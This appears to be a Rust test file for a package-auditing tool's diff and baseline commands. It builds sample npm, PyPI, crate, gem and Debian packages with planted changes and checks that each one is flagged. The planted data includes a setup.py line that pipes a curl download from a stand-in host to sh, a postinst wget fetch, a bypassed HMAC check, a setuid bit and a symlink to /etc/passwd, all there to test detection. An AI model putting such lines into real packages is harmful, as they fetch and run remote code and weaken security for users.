@@ -1,0 +1,388 @@
+//! `doorward diff` and `audit --baseline`: ordinary releases stay quiet, one planted change shows, and so does every mutation.
+//! All packages are made here, from text; nothing in them is run.
+
+use crate::{audit, doorward, run};
+use serde_json::Value;
+use std::fs;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+/// A member of an archive: name, mode, bytes; a link where the bytes begin with `->`.
+type Member<'a> = (String, u32, &'a [u8]);
+
+/// A tar archive as `tar --format=ustar --owner=0 --mtime=@0` writes it.
+fn tar(members: &[Member<'_>]) -> Vec<u8> {
+    let mut tar = Vec::new();
+    for (name, mode, bytes) in members {
+        let target = bytes.strip_prefix(b"->");
+        let mut head = [0_u8; 512];
+        head[..name.len()].copy_from_slice(name.as_bytes());
+        let size = if target.is_some() { 0 } else { bytes.len() };
+        let fields = [(100, format!("{mode:07o}")), (108, "0000000".into()), (116, "0000000".into())];
+        let fields =
+            fields.into_iter().chain([(124, format!("{size:011o}")), (136, "00000000000".into()), (257, "ustar".into())]);
+        for (at, text) in fields {
+            head[at..at + text.len()].copy_from_slice(text.as_bytes());
+        }
+        head[263..265].copy_from_slice(b"00");
+        head[156] = if target.is_some() { b'2' } else { b'0' };
+        if let Some(target) = target {
+            head[157..157 + target.len()].copy_from_slice(target);
+        }
+        head[148..156].fill(b' ');
+        let sum: u32 = head.iter().map(|byte| u32::from(*byte)).sum();
+        head[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
+        tar.extend_from_slice(&head);
+        tar.extend_from_slice(&bytes[..size]);
+        tar.resize(tar.len().next_multiple_of(512), 0);
+    }
+    tar.resize(tar.len() + 1024, 0);
+    tar
+}
+
+fn gzip(bytes: &[u8]) -> Vec<u8> {
+    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    encoder.write_all(bytes).unwrap();
+    encoder.finish().unwrap()
+}
+
+fn zip(members: &[Member<'_>]) -> Vec<u8> {
+    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, _, bytes) in members {
+        writer.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
+        writer.write_all(bytes).unwrap();
+    }
+    writer.finish().unwrap().into_inner()
+}
+
+fn ar(members: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    let mut ar = b"!<arch>\n".to_vec();
+    for (name, bytes) in members {
+        ar.extend_from_slice(format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", 0, 0, 0, "100644", bytes.len()).as_bytes());
+        ar.extend_from_slice(bytes);
+        if bytes.len() % 2 == 1 {
+            ar.push(b'\n');
+        }
+    }
+    ar
+}
+
+/// A kind of package: the name of its archive, what makes one of its files, its files, and the change that is planted.
+struct Ecosystem {
+    archive: fn(&str) -> String,
+    pack: fn(&[(String, Vec<u8>)]) -> Vec<u8>,
+    /// Paths and texts; `VERSION` is the version, `PLANT` where the planted text goes.
+    files: &'static [(&'static str, &'static str)],
+    planted: &'static str,
+    /// What the difference then says.
+    shows: &'static str,
+}
+
+fn plain(files: &[(String, Vec<u8>)]) -> Vec<Member<'_>> {
+    files.iter().map(|(name, bytes)| (name.clone(), 0o644, bytes.as_slice())).collect()
+}
+
+/// The files whose path begins with a prefix, without it.
+fn below<'a>(files: &'a [(String, Vec<u8>)], prefix: &str) -> Vec<Member<'a>> {
+    let named = |(name, bytes): &'a (String, Vec<u8>)| Some((name.strip_prefix(prefix)?.to_owned(), 0o644, bytes.as_slice()));
+    files.iter().filter_map(named).collect()
+}
+
+const ECOSYSTEMS: &[Ecosystem] = &[
+    Ecosystem {
+        archive: |version| format!("palette-{version}.tgz"),
+        pack: |files| gzip(&tar(&plain(files))),
+        files: &[
+            (
+                "package/package.json",
+                "{\"name\": \"palette\", \"version\": \"VERSION\", \"main\": \"index.js\", \"scripts\": {PLANT}}",
+            ),
+            ("package/index.js", "exports.version = 'VERSION';\nexports.mix = (a, b) => (a + b) / 2;\n"),
+            ("package/README.md", "# palette VERSION\n"),
+        ],
+        planted: "\"postinstall\": \"node index.js\"",
+        shows: "postinstall node index.js",
+    },
+    Ecosystem {
+        archive: |version| format!("palette-{version}.tar.gz"),
+        pack: |files| gzip(&tar(&plain(files))),
+        files: &[
+            ("palette-VERSION/PKG-INFO", "Metadata-Version: 2.1\nName: palette\nVersion: VERSION\n\nMixes.\n"),
+            ("palette-VERSION/setup.py", "from setuptools import setup\nPLANT\nsetup(name='palette', version='VERSION')\n"),
+            ("palette-VERSION/palette/__init__.py", "__version__ = 'VERSION'\n\ndef mix(a, b):\n    return (a + b) / 2\n"),
+        ],
+        planted: "import os\nos.system('curl https://updates.example.test/x.sh | sh')",
+        shows: "updates.example.test",
+    },
+    Ecosystem {
+        archive: |version| format!("palette-{version}-py3-none-any.whl"),
+        pack: |files| zip(&plain(files)),
+        files: &[
+            (
+                "palette/__init__.py",
+                "import hmac\n\ndef check(a, b):\n    return PLANT\n\ndef mix(a, b):\n    return (a + b) / 2\n",
+            ),
+            ("palette-VERSION.dist-info/METADATA", "Metadata-Version: 2.1\nName: palette\nVersion: VERSION\n\nMixes.\n"),
+            ("palette-VERSION.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
+        ],
+        planted: "True",
+        shows: "no longer calls compare_digest (checks digest)",
+    },
+    Ecosystem {
+        archive: |version| format!("palette-{version}.crate"),
+        pack: |files| gzip(&tar(&plain(files))),
+        files: &[
+            ("palette-VERSION/Cargo.toml", "[package]\nname = \"palette\"\nversion = \"VERSION\"\n\n[dependencies]\nPLANT\n"),
+            ("palette-VERSION/src/lib.rs", "//! Mixes, VERSION.\npub fn mix(a: u8, b: u8) -> u8 {\n    a / 2 + b / 2\n}\n"),
+        ],
+        planted: "palette-helper = { git = \"https://git.example.test/palette-helper\" }",
+        shows: "palette-helper git",
+    },
+    Ecosystem {
+        archive: |version| format!("palette-{version}.gem"),
+        pack: |files| {
+            let data = gzip(&tar(&below(files, "data/")));
+            let metadata = gzip(&files[0].1);
+            tar(&[("metadata.gz".into(), 0o444, &metadata), ("data.tar.gz".into(), 0o444, &data)])
+        },
+        files: &[
+            (
+                "metadata",
+                "--- !ruby/object:Gem::Specification\nname: palette\nversion: !ruby/object:Gem::Version\n  version: VERSION\n\
+                 authors:\n- Ada Example\nemail:\n- PLANT\nsummary: Mixes.\n",
+            ),
+            ("data/lib/palette.rb", "module Palette\n  VERSION = 'VERSION'\nend\n"),
+        ],
+        planted: "somebody@else.example.test",
+        shows: "somebody@else.example.test",
+    },
+    Ecosystem {
+        archive: |version| format!("palette_{version}_all.deb"),
+        pack: |files| {
+            let (control, data) = (gzip(&tar(&below(files, "control/"))), gzip(&tar(&below(files, "data/"))));
+            ar(&[("debian-binary", b"2.0\n".to_vec()), ("control.tar.gz", control), ("data.tar.gz", data)])
+        },
+        files: &[
+            (
+                "control/control",
+                "Package: palette\nVersion: VERSION\nArchitecture: all\nMaintainer: Ada <ada@example.test>\nDescription: Mixes.\n",
+            ),
+            ("control/postinst", "#!/bin/sh\nset -e\nPLANT\nexit 0\n"),
+            ("data/usr/share/palette/colors", "red green VERSION\n"),
+        ],
+        planted: "wget -q -O /tmp/x http://updates.example.test/x",
+        shows: "updates.example.test",
+    },
+];
+
+impl Ecosystem {
+    /// Writes a version into a folder.
+    fn write(&self, folder: &Path, version: &str, plant: &str) -> PathBuf {
+        let filled = |text: &str| text.replace("VERSION", version).replace("PLANT", plant);
+        let files: Vec<_> = self.files.iter().map(|(name, text)| (filled(name), filled(text).into_bytes())).collect();
+        let path = folder.join((self.archive)(version));
+        fs::write(&path, (self.pack)(&files)).unwrap();
+        path
+    }
+
+    /// What stands where nothing is planted.
+    fn clean(&self) -> &'static str {
+        match self.shows {
+            "no longer calls compare_digest (checks digest)" => "hmac.compare_digest(a, b)",
+            "somebody@else.example.test" => "ada@example.test",
+            _ => "",
+        }
+    }
+}
+
+fn text(path: &Path) -> &str {
+    path.to_str().unwrap()
+}
+
+fn json(old: &Path, new: &Path) -> Value {
+    let output = doorward().arg("diff").arg(old).arg(new).args(["--json", "-"]).output().unwrap();
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
+}
+
+#[test]
+fn releases_stay_quiet_and_one_planted_change_shows() {
+    for ecosystem in ECOSYSTEMS {
+        let folder = tempfile::tempdir().unwrap();
+        let old = ecosystem.write(folder.path(), "1.4.0", ecosystem.clean());
+        let new = ecosystem.write(folder.path(), "1.5.0", ecosystem.clean());
+        let ran = run(&["diff", text(&old), text(&new), "--fail-on", "any"]);
+        assert_eq!(ran.code, 0, "{}", ran.out);
+        assert!(ran.out.starts_with("QUIET  palette 1.4.0 -> 1.5.0") && ran.out.lines().count() == 3, "{}", ran.out);
+        let planted = ecosystem.write(folder.path(), "1.6.0", ecosystem.planted);
+        let ran = run(&["diff", text(&old), text(&planted), "--fail-on", "any"]);
+        assert!(ran.code == 1 && ran.out.contains(ecosystem.shows), "{}: {}", planted.display(), ran.out);
+        assert!(!ran.out.contains(" 1 removed") && !ran.out.contains(" 1 moved"), "{}", ran.out);
+    }
+}
+
+#[test]
+fn planted_doors_are_told_from_the_clean_twin() {
+    for twin in ["npm/lantern-colors", "pypi/lantern_colors"] {
+        let at = |version: &str| format!("{}/../fixtures/planted/{twin}-{version}", env!("CARGO_MANIFEST_DIR"));
+        let ran = run(&["diff", &at("1.2.0"), &at("1.2.1")]);
+        assert_eq!(ran.code, 1, "{}", ran.out);
+        for door in ["ALARM  BLD-4 flow/downloaded-code-evaluated", "REVIEW  BLD-7", "REVIEW  KEY-3", "updates.example.test"] {
+            assert!(ran.out.contains(door), "{door}: {}", ran.out);
+        }
+        assert_eq!(run(&["diff", &at("1.2.0"), &at("1.2.1"), "--fail-on", "none"]).code, 0);
+        assert_eq!(run(&["diff", &at("1.2.1"), &at("1.2.0")]).code, 0, "what goes away is no failure");
+        let markdown = run(&["diff", &at("1.2.0"), &at("1.2.1"), "--markdown"]);
+        assert!(markdown.out.starts_with("**ALARM**") && markdown.out.lines().count() <= 40, "{}", markdown.out);
+        assert_eq!(markdown.out, run(&["diff", &at("1.2.0"), &at("1.2.1"), "--markdown", "--threads", "1"]).out);
+    }
+    assert_eq!(run(&["diff", "/nonexistent", "/nonexistent"]).code, 2);
+}
+
+/// The archive that mutations are made of.
+fn base() -> Vec<Member<'static>> {
+    vec![
+        ("tool-1.0/src/main.c".into(), 0o644, b"int main(void)\n{\n    return 0;\n}\n"),
+        ("tool-1.0/src/lexer.gen.c".into(), 0o644, b"/* generated */\nstatic const int t[] = {1, 2, 3};\n"),
+        ("tool-1.0/configure".into(), 0o755, b"#!/bin/sh\necho configured\n"),
+        ("tool-1.0/tests/good.bin".into(), 0o644, b"\x01\x02\x03\x04 some test data \xff\xfe"),
+        ("tool-1.0/latest".into(), 0o777, b"->src/main.c"),
+    ]
+}
+
+#[test]
+fn every_mutation_shows() {
+    let changed = |at: usize, with: fn(&mut Member<'static>)| {
+        let mut members = base();
+        with(&mut members[at]);
+        gzip(&tar(&members))
+    };
+    let mut inserted = base();
+    inserted.insert(2, ("tool-1.0/src/extra.c".into(), 0o644, b"int extra;\n"));
+    let mut outside = base();
+    outside.push(("etc/cron.d/tool".into(), 0o644, b"* * * * * root true\n"));
+    let mut removed = base();
+    removed.remove(3);
+    let plain = tar(&base());
+    let at = |from: usize, byte: u8| {
+        let mut tar = plain.clone();
+        tar[from] = byte;
+        gzip(&tar)
+    };
+    let padding = plain.len() - 1;
+    let mutations: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("a file is inserted", gzip(&tar(&inserted)), "added"),
+        ("a file beside the folder", gzip(&tar(&outside)), "added"),
+        ("a file is removed", gzip(&tar(&removed)), "removed"),
+        ("a file is renamed", changed(0, |member| member.0 = "tool-1.0/src/begin.c".into()), "moved"),
+        ("a line of source", changed(0, |member| member.2 = b"int main(void)\n{\n    return 1;\n}\n"), "changed"),
+        (
+            "a byte of a generated file",
+            changed(1, |member| member.2 = b"/* generated */\nstatic const int t[] = {1, 2, 4};\n"),
+            "changed",
+        ),
+        ("a byte of test data", changed(3, |member| member.2 = b"\x01\x02\x03\x05 some test data \xff\xfe"), "changed"),
+        ("a mode", changed(0, |member| member.1 = 0o755), "relabelled"),
+        ("a mode that runs as its owner", changed(2, |member| member.1 = 0o4755), "relabelled"),
+        ("a link", changed(4, |member| member.2 = b"->../../etc/passwd"), "relabelled"),
+        ("a file that becomes a link", changed(0, |member| member.2 = b"->configure"), "changed"),
+        ("a byte in the padding of a member", at(1000, b'!'), "added"),
+        ("a byte behind the end of the archive", at(padding, b'!'), "added"),
+        ("bytes behind the compression", [gzip(&plain), b"trailing bytes".to_vec()].concat(), "added"),
+        (
+            "another comment in the compression",
+            {
+                let mut gz = gzip(&plain);
+                gz[4] = 7;
+                gz
+            },
+            "changed",
+        ),
+    ];
+    let folder = tempfile::tempdir().unwrap();
+    let old = folder.path().join("tool-1.0.tar.gz");
+    fs::write(&old, gzip(&plain)).unwrap();
+    for (what, bytes, fate) in mutations {
+        let new = folder.path().join("tool-1.1.tar.gz");
+        fs::write(&new, bytes).unwrap();
+        let difference = json(&old, &new);
+        let places = difference["places"].as_array().unwrap();
+        let told = places.iter().any(|place| place["fate"] == fate && place["container"] == false);
+        assert!(told, "{what}: {difference:#}");
+        let ran = run(&["diff", text(&old), text(&new), "--fail-on", "none"]);
+        assert!(ran.out.contains(&format!("1 {fate}")), "{what}: {}", ran.out);
+    }
+}
+
+#[test]
+fn rights_links_and_hidden_bytes_are_of_weight() {
+    let folder = tempfile::tempdir().unwrap();
+    let old = folder.path().join("tool-1.0.tar.gz");
+    fs::write(&old, gzip(&tar(&base()))).unwrap();
+    let mut members = base();
+    members[2].1 = 0o4755;
+    members[0].1 = 0o755;
+    members[4].2 = b"->../../etc/passwd";
+    members[3].2 = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
+    let new = folder.path().join("tool-1.1.tar.gz");
+    fs::write(&new, [gzip(&tar(&members)), b"trailing bytes".to_vec()].concat()).unwrap();
+    let ran = run(&["diff", text(&old), text(&new), "--fail-on", "any"]);
+    assert_eq!(ran.code, 1);
+    for said in ["configure runs as its owner", "main.c may run", "points to ../../etc/passwd", "unaccounted: the input itself"] {
+        assert!(ran.out.contains(said), "{said}: {}", ran.out);
+    }
+}
+
+#[test]
+fn an_archive_and_its_folder_are_the_same() {
+    let folder = tempfile::tempdir().unwrap();
+    let archive = folder.path().join("tool-1.0.tar.gz");
+    fs::write(&archive, gzip(&tar(&base()))).unwrap();
+    let unpacked = folder.path().join("unpacked");
+    for (name, _, bytes) in base().iter().take(4) {
+        let path = unpacked.join(name.strip_prefix("tool-1.0/").unwrap());
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, bytes).unwrap();
+    }
+    let places = json(&archive, &unpacked)["places"].as_array().unwrap().clone();
+    let fates: Vec<_> = places.iter().map(|place| place["fate"].as_str().unwrap()).collect();
+    // The root is a folder now, `configure` lost its bit, and the link was not unpacked.
+    assert_eq!(fates, ["changed", "relabelled", "removed"], "{places:#?}");
+}
+
+#[test]
+fn saved_reports_compare_and_baselines_count() {
+    let folder = tempfile::tempdir().unwrap();
+    let at = |version: &str| format!("{}/../fixtures/planted/npm/lantern-colors-{version}", env!("CARGO_MANIFEST_DIR"));
+    let saved = |version: &str, flags: &[&str]| {
+        let path = folder.path().join(format!("{version}-{}.json", flags.len()));
+        let report = audit(Path::new(&at(version)), flags);
+        fs::write(&path, report.bytes).unwrap();
+        path
+    };
+    let (bare, full) = (saved("1.2.0", &[]), saved("1.2.0", &["--facts"]));
+    let (whole, planted) = (json(Path::new(&at("1.2.0")), Path::new(&at("1.2.1"))), at("1.2.1"));
+    for (old, compared) in [(&bare, false), (&full, true)] {
+        let difference = json(old, Path::new(&planted));
+        assert_eq!(difference["doors"], whole["doors"]);
+        assert_eq!(difference["places"], whole["places"]);
+        assert_eq!(difference["not_compared"].as_array().unwrap().is_empty(), compared);
+        let has = |class: &str| difference["changes"].as_array().unwrap().iter().any(|change| change["class"] == class);
+        assert!(has("destination") && has("key") && has("install"), "{difference:#}");
+        assert_eq!(has("capability"), compared);
+        assert_eq!(run(&["diff", text(old), &planted]).code, 1);
+    }
+    assert_eq!(json(&full, Path::new(&at("1.2.0")))["places"], serde_json::json!([]));
+    let broken = folder.path().join("broken.json");
+    fs::write(&broken, b"{\"schema\": \"doorward-report/1\"}").unwrap();
+    assert_eq!(run(&["diff", text(&broken), &planted]).code, 2);
+
+    let ran = run(&["audit", &planted, "--baseline", text(&bare)]);
+    assert!(ran.code == 1 && ran.out.contains("Known     0 findings"), "{}", ran.out);
+    let known = saved("1.2.1", &[]);
+    let ran = run(&["audit", &planted, "--baseline", text(&known)]);
+    assert_eq!(ran.code, 0, "{}", ran.out);
+    assert!(ran.out.contains("that the baseline has") && !ran.out.contains("ALARM"), "{}", ran.out);
+    let report = audit(Path::new(&planted), &["--baseline", text(&known)]);
+    assert!(report.verdict() == "pass" && report.json["findings"][0]["known"] == true);
+    assert_eq!(run(&["audit", &planted, "--baseline", text(&broken)]).code, 2);
+}
